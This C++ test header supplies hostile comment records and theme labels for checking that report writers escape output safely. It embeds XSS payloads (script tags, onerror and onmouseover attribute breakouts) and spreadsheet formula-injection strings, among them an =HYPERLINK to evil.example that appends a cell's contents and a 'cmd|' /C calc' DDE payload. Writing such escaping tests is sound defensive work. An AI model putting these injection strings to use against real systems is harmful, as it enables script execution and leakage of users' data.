// Comment records and theme labels hostile to every output format, for the
// report writers' tests: HTML elements and scripts, both quote marks, '&',
// '=', and the first characters a spreadsheet runs as a formula, in every
// field a report shows (district, collaborative, lead schools, heading,
// text, round, theme ids and labels). Header-only.
#pragma once

#include <string>
#include <vector>

#include "corpus/model/comment_record.h"
#include "index/query/summary.h"

namespace returns::test {

// A theme id no lexicon should allow; reports must still write it safely.
inline const std::string kHostileThemeId = R"(walks" onclick="alert('id'))";

inline std::vector<ThemeLabel> HostileThemes() {
  return {{"moderation", R"(=Moderation <script>alert('label')</script> & "co")"},
          {kHostileThemeId, R"~(" onmouseover="alert('attr')" x="' <b>walks</b>)~"},
          {"plus", "+SUM(1,2) & 'single' </title></text></svg><script>alert('svg')</script>"}};
}

// A match of `theme` over the first `what` in `r.text`.
inline void AddMatch(CommentRecord& r, const std::string& theme, const std::string& what) {
  if (!r.tags) r.tags = Tagging{};
  const size_t at = r.text.find(what);
  r.tags->matches.push_back({theme, "word:test", at, at + what.size(), what, false});
  bool known = false;
  for (const std::string& t : r.tags->themes) known = known || t == theme;
  if (!known) r.tags->themes.push_back(theme);
}

inline std::vector<CommentRecord> HostileRecords() {
  auto record = [](std::string district, std::string collaborative, std::vector<std::string> leads, int question,
                   std::string return_id, int position, std::string text) {
    CommentRecord r;
    r.district = std::move(district);
    r.collaborative = std::move(collaborative);
    r.lead_schools = std::move(leads);
    r.question = question;
    r.round = "2014-03";
    r.return_id = std::move(return_id);
    r.position = position;
    r.comment_id = r.return_id + "#" + std::to_string(position);
    r.text = std::move(text);
    r.tags = Tagging{};
    return r;
  };
  const std::string dover = "Dover <script>alert('district')</script>";
  const std::string evil = R"~("><img src=x onerror="alert('collaborative')"> & Co)~";
  const std::vector<std::string> evil_leads = {"St Mary's & St John's <b>CE</b>",
                                               R"(=HYPERLINK("http://evil.example/","click"))"};
  std::vector<CommentRecord> out;
  out.push_back(record(dover, evil, evil_leads, 2, "q2/evil/st-marys", 1,
                       R"(=HYPERLINK("http://evil.example/?"&A1,"moderation report"))"));
  out.back().heading = R"~(Priority 1 ' onmouseover='alert(1)' " onfocus="alert(2)")~";
  AddMatch(out.back(), "moderation", "moderation");
  out.push_back(record(dover, evil, evil_leads, 2, "q2/evil/st-marys", 2,
                       "+44 moderation <script>alert('text')</script> & a learning walk"));
  AddMatch(out.back(), "moderation", "moderation");
  AddMatch(out.back(), kHostileThemeId, "<script>alert('text')</script>");
  AddMatch(out.back(), kHostileThemeId, "learning walk");
  out.push_back(record("-Thanet", "@Group", {"+Plus School"}, 3, "q3/group/plus", 1, "-2+3+cmd|' /C calc'!A0 moderation"));
  out.back().round = "-2014";
  AddMatch(out.back(), "moderation", "moderation");
  out.push_back(record("=Swale", R"(Plain & "Quoted" 'Group')", {"<i>Lead</i>"}, 4, "q4/plain/lead", 1,
                       "\tTab first: plain <img src=x onerror=\"alert('img')\">"));
  AddMatch(out.back(), "plus", "plain");
  return out;
}

}  // namespace returns::test
